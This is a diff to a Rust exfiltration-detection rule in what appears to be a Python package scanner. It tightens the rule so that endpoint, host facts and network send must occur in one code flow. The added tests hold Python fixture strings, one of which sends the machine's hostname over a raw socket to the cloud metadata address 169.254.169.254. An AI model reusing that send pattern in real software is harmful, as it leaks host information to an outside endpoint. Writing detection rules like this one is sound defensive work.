@@ -43,6 +43,11 @@ fn a_post_api(call: &Call) -> bool {
 }
 
 fn is_sink(call: &Call) -> bool {
+    // A method of a parsed response body (`requests.get(u).json().get("ok")`) reads
+    // what came back; it sends nothing.
+    if call.name.contains(".json().") {
+        return false;
+    }
     if vocab::is_network(&call.name) && !call.name.ends_with("Session") {
         return true;
     }
@@ -117,9 +122,27 @@ impl Rule for Exfiltration {
                     .filter(|e| *e != Endpoint::CloudMetadata || s.stage >= Stage::Import)
                     .map(|e| (*s, e))
             });
-            let strong_endpoint = vocab::strings(code)
-                .filter_map(vocab::endpoint_kind)
-                .find(|e| e.is_strong() || *e == Endpoint::RawIp);
+            // A strong endpoint, host facts and a send in one flow (a function, the
+            // functions it calls, module level): not three unrelated statements of a
+            // large module (a localhost probe, a docstring naming 169.254.169.254, issue 11).
+            let strong_endpoint = sinks.iter().find_map(|s| {
+                let flow = code.flow_scopes(s.scope);
+                let in_flow =
+                    |scope: u32| scope == 0 || scope == s.scope || flow.get(scope as usize).copied().unwrap_or(false);
+                // Host facts read by the sending flow itself: a module-level
+                // `HOST = socket.gethostname()` of a large module is not sent by
+                // every function that makes a request.
+                let collected = |scope: u32| scope == s.scope || (scope != 0 && in_flow(scope));
+                if !identity.iter().any(|(_, scope)| collected(*scope)) {
+                    return None;
+                }
+                code.strings
+                    .iter()
+                    .filter(|l| in_flow(l.scope))
+                    .filter_map(|l| vocab::endpoint_kind(&l.value))
+                    .find(|e| e.is_strong() || *e == Endpoint::RawIp)
+                    .map(|e| (*s, e))
+            });
             let (severity, sink, message) = if !stealer.is_empty() {
                 let sev = if aux { Severity::Medium } else { Severity::Critical };
                 (
@@ -159,14 +182,15 @@ impl Rule for Exfiltration {
                         sink.stage.describe()
                     ),
                 )
-            } else if let (Some(endpoint), false) = (strong_endpoint, identity.is_empty()) {
+            } else if let Some((sink, endpoint)) = strong_endpoint {
                 let sev = if aux { Severity::Low } else { Severity::High };
                 let message = format!(
-                    "collects {what} and sends it with {}() to {}",
-                    first_sink.name,
-                    endpoint.describe()
+                    "collects {what} and sends it with {}() to {} {}",
+                    sink.name,
+                    endpoint.describe(),
+                    sink.stage.describe()
                 );
-                (sev, *first_sink, message)
+                (sev, sink, message)
             } else if let Some((sink, host)) = env_to_untrusted(code, &sinks, &identity) {
                 let message = format!(
                     "collects the whole environment and sends it with {}() to {host} {}",
@@ -259,5 +283,22 @@ mod tests {
         assert!(f.is_empty(), "{f:?}");
         // No error: setup.py reading an env var without network.
         assert!(setup_py(&Exfiltration, "import os\nif os.environ.get('CUDA_HOME'): pass\n").is_empty());
+        // No error (issue 11): a localhost probe, the host name read elsewhere and a
+        // docstring naming the metadata address, in three unrelated functions.
+        let src = "import socket, os\ndef probe():\n    s = socket.socket()\n    return s.connect_ex(('127.0.0.1', 18789))\ndef me():\n    return socket.gethostname(), os.getcwd()\ndef guard_url(u):\n    \"\"\"Refuse http://169.254.169.254/ (SSRF).\"\"\"\n    return u\n";
+        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/dash.py", src)]);
+        assert!(f.iter().all(|f| f.severity < Severity::High), "{f:?}");
+        // No error: a host name read at module level, a bot URL and a request elsewhere.
+        let src = "import socket, requests\nHOST = socket.gethostname()\nBOT = 'https://api.telegram.org/bot{}/sendMessage'\ndef status():\n    return requests.get('https://api.example.com/status').json().get('ok')\n";
+        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/dash.py", src)]);
+        assert!(f.iter().all(|f| f.severity < Severity::High), "{f:?}");
+        // No error: a lookup in a parsed response body is no send of its own.
+        let src = "import socket, json\ndef load(data):\n    h = socket.gethostname()\n    u = 'https://api.telegram.org/bot'\n    return data.get(h), u\ndef fetch():\n    import requests\n    data = requests.get('https://api.example.com/s').json()\n    return data\n";
+        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/dash.py", src)]);
+        assert!(f.iter().all(|f| !f.message.contains("json()")), "{f:?}");
+        // Error: the same facts in one function.
+        let src = "import socket\ndef probe():\n    h = socket.gethostname()\n    s = socket.socket()\n    s.connect(('169.254.169.254', 80))\n    s.send(h.encode())\n";
+        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/dash.py", src)]);
+        assert!(f.iter().any(|f| f.severity >= Severity::High), "{f:?}");
     }
 }
